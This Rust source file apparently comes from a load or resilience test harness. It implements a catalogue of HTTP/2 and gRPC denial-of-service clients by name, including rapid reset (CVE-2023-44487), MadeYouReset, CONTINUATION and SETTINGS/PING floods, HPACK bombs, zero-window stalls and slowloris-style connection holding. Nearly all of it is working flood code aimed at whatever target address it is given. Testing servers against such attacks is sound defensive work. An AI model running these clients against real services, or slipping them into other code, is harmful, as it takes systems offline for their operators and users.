//! Clients that do harm: each a script that dials the target again and again until the time is over. The names are those
//! of the attacks, with the CVE where it has one.

use std::net::SocketAddr;
use std::thread;
use std::time::{Duration, Instant};

use crate::frames::*;

/// Runs the attack of this name; `None`: there is none.
pub fn run(name: &str, target: SocketAddr, end: Instant) -> Option<()> {
    let unary = call("Unary");
    match name {
        // CVE-2023-44487.
        "rapid-reset" => flood(target, end, |id| [headers(id, true, &unary), cancel(id)].concat()),
        // As many as fit, then all of them back.
        "reset-in-bulk" => flood_by(100, target, end, |ids| {
            let calls = ids.iter().flat_map(|id| headers(*id, true, &unary));
            calls.chain(ids.iter().flat_map(|id| cancel(*id))).collect()
        }),
        // CVE-2025-8671: the server is made to reset.
        "made-you-reset" => flood(target, end, |id| {
            let fault = match id / 2 % 4 {
                0 => window(id, 0),
                1 => [window(id, 0x7fff_ffff), window(id, 0x7fff_ffff)].concat(),
                2 => frame(PRIORITY, 0, id, &id.to_be_bytes().into_iter().chain([1]).collect::<Vec<u8>>()),
                _ => return [headers(id, true, &unary), frame(DATA, 0, id, b"late")].concat(),
            };
            [headers(id, false, &unary), fault].concat()
        }),
        // CVE-2024-27316 and its kin.
        "continuation" => connections(target, end, |wire| {
            wire.say(&frame(HEADERS, END_STREAM, 1, &unary)) && endless(wire, &frame(CONTINUATION, 0, 1, &[0; 8]))
        }),
        "empty-continuation" => connections(target, end, |wire| {
            wire.say(&frame(HEADERS, END_STREAM, 1, &unary)) && endless(wire, &frame(CONTINUATION, 0, 1, &[]))
        }),
        // CVE-2019-9515, -9512, -9513, -9518 in turn.
        "settings" => connections(target, end, |wire| endless(wire, &settings(&[(INITIAL_WINDOW_SIZE, 65_535)]))),
        "ping" => connections(target, end, |wire| endless(wire, &frame(PING, 0, 0, b"pingping"))),
        "priority" => connections(target, end, |wire| endless(wire, &frame(PRIORITY, 0, 1, &[0, 0, 0, 3, 1]))),
        "window-update" => {
            connections(target, end, |wire| wire.say(&headers(1, false, &unary)) && endless(wire, &window(1, 0x10)))
        }
        "empty-data" => connections(target, end, |wire| {
            wire.say(&headers(1, false, &unary)) && endless(wire, &frame(DATA, 0, 1, &[]))
        }),
        "padding" => connections(target, end, |wire| {
            let padded = frame(DATA, PADDED, 1, &[&[255][..], &[0; 256]].concat());
            wire.say(&headers(1, false, &call("BidiStream"))) && endless(wire, &padded)
        }),
        "unknown-frames" => connections(target, end, |wire| endless(wire, &frame(0xfb, 0, 1, &[]))),
        // One entry of 4,000 bytes in the table, thousands of references to it in each request.
        "hpack-bomb" => {
            let mut first = unary.clone();
            literal(&mut first, true, "bomb", &[b'x'; 4_000]);
            let bomb = [unary.clone(), vec![0xbe; 16_000]].concat();
            flood(target, end, |id| match id {
                1 => headers(id, true, &first),
                _ => headers(id, true, &bomb),
            })
        }
        // Every request fills the table anew.
        "hpack-churn" => flood(target, end, |id| {
            // Each of these is a proper call, which the endpoint has to answer.
            thread::sleep(Duration::from_millis(1));
            let mut block = unary.clone();
            (0..100).for_each(|n| literal(&mut block, true, &format!("n{id}-{n}"), b"v"));
            headers(id, true, &block)
        }),
        "many-headers" => {
            let mut block = unary.clone();
            (0..2_000).for_each(|n| literal(&mut block, false, &format!("h{n}"), b"v"));
            flood(target, end, |id| long_headers(id, true, &block))
        }
        "huge-header" => {
            let mut block = unary.clone();
            literal(&mut block, false, "huge", &[b'x'; 100_000]);
            flood(target, end, |id| long_headers(id, true, &block))
        }
        // Calls that never go on, with all the header fields that are allowed.
        "large-heads" => hold(target, end, 20, |wire| {
            wire.drain();
            let mut block = unary.clone();
            literal(&mut block, false, "large", &[b'x'; 12_000]);
            wire.say(PREFACE)
                && wire.say(&settings(&[]))
                && (0..50).all(|n| wire.say(&long_headers(2 * n + 1, false, &block)))
        }),
        // Answers that nobody takes, to frames of no cost.
        "deaf-pings" => hold(target, end, 500, |wire| {
            wire.say(PREFACE) && wire.say(&settings(&[])) && wire.say(&frame(PING, 0, 0, b"pingping").repeat(5_000))
        }),
        // Answers that nobody takes.
        "zero-window" => stalled(target, end, &settings(&[(INITIAL_WINDOW_SIZE, 0)]), |_| Vec::new()),
        "one-byte-window" => stalled(target, end, &settings(&[(INITIAL_WINDOW_SIZE, 1)]), |ids| {
            ids.iter().flat_map(|id| window(*id, 1)).collect()
        }),
        "no-read" => hold(target, end, 10, |wire| {
            let all = [settings(&[(INITIAL_WINDOW_SIZE, 0x7fff_ffff)]), window(0, 0x7fff_0000)].concat();
            let asks = (0..200).flat_map(|n| [headers(2 * n + 1, false, &unary), ask(2 * n + 1, 100_000, 1)].concat());
            wire.say(PREFACE) && wire.say(&all) && wire.say(&asks.collect::<Vec<u8>>())
        }),
        // Connections that cost their owner nothing.
        "silence" => hold(target, end, 1_000, |wire| {
            let said = wire.stream.local_addr().map_or(0, |own| usize::from(own.port()) % PREFACE.len());
            wire.say(&PREFACE[..said])
        }),
        "half-open" => hold(target, end, 1_000, |wire| wire.say(PREFACE) && wire.say(&settings(&[]))),
        "idle-streams" => hold(target, end, 1, |wire| {
            wire.drain();
            let streams = (0..5_000).flat_map(|n| headers(2 * n + 1, false, &unary));
            wire.say(PREFACE) && wire.say(&settings(&[])) && wire.say(&streams.collect::<Vec<u8>>())
        }),
        "churn" => {
            while Instant::now() < end {
                let Some(mut wire) = Wire::connect(target, end) else { continue };
                wire.say(&[PREFACE, &settings(&[]), &headers(1, true, &unary)].concat());
                thread::sleep(Duration::from_micros(500));
            }
        }
        // One byte at a time, many at once.
        "drip" => hold(target, end, 200, |wire| {
            let bytes = [PREFACE, &settings(&[]), &headers(1, false, &unary)].concat();
            bytes.iter().take(20).all(|byte| wire.say(&[*byte]))
        }),
        // No attack: calls, for an endpoint that does the harm.
        "calls" => flood(target, end, |id| {
            thread::sleep(Duration::from_millis(2));
            [headers(id, false, &call("ServerStream")), ask(id, 1_000, 3)].concat()
        }),
        // The same with much to take.
        "uploads" => flood(target, end, |id| {
            thread::sleep(Duration::from_millis(2));
            [headers(id, false, &call("ClientStream")), frame(DATA, 0, id, &[0; 16_000]).repeat(3)].concat()
        }),
        _ => return None,
    }
    Some(())
}

/// Connections one after another, read as a good client does, until the time is over.
fn connections(target: SocketAddr, end: Instant, mut script: impl FnMut(&mut Wire) -> bool) {
    while Instant::now() < end {
        if let Some(mut wire) = Wire::connect(target, end) {
            wire.drain();
            if wire.say(&[PREFACE, &settings(&[])].concat()) {
                script(&mut wire);
            }
        }
        thread::sleep(Duration::from_millis(5));
    }
}

fn endless(wire: &mut Wire, frame: &[u8]) -> bool {
    let batch = frame.repeat(1 + 16_384 / frame.len());
    while wire.say(&batch) {}
    false
}

/// What is said for each stream, a batch of twenty at a time.
fn flood(target: SocketAddr, end: Instant, stream: impl Fn(u32) -> Vec<u8>) {
    flood_by(20, target, end, |ids| ids.iter().flat_map(|id| stream(*id)).collect());
}

fn flood_by(batch: u32, target: SocketAddr, end: Instant, say: impl Fn(&[u32]) -> Vec<u8>) {
    connections(target, end, |wire| {
        let mut next = 1;
        while next < 1 << 30 {
            let ids: Vec<u32> = (0..batch).map(|n| next + 2 * n).collect();
            next += 2 * batch;
            if !wire.say(&say(&ids)) {
                return false;
            }
        }
        true
    });
}

/// Many connections at once that are held to the end; those that fail are dialled anew.
fn hold(target: SocketAddr, end: Instant, count: usize, script: impl Fn(&mut Wire) -> bool) {
    let mut held = Vec::new();
    while held.len() < count && Instant::now() < end {
        if let Some(mut wire) = Wire::connect(target, end)
            && script(&mut wire)
        {
            held.push(wire);
        }
    }
    thread::sleep(end.saturating_duration_since(Instant::now()));
}

/// A thousand calls with large answers and no window for them; then what `more` says, again and again.
fn stalled(target: SocketAddr, end: Instant, greeting: &[u8], more: impl Fn(&[u32]) -> Vec<u8>) {
    let unary = call("Unary");
    connections(target, end, |wire| {
        let ids: Vec<u32> = (0..1_000).map(|n| 2 * n + 1).collect();
        let asks = ids.iter().flat_map(|id| [headers(*id, false, &unary), ask(*id, 100_000, 1)].concat());
        if !wire.say(greeting) || !wire.say(&asks.collect::<Vec<u8>>()) {
            return false;
        }
        loop {
            let bytes = more(&ids);
            thread::sleep(Duration::from_millis(20));
            if wire.is_over() || !wire.say(&bytes) {
                return false;
            }
        }
    });
}
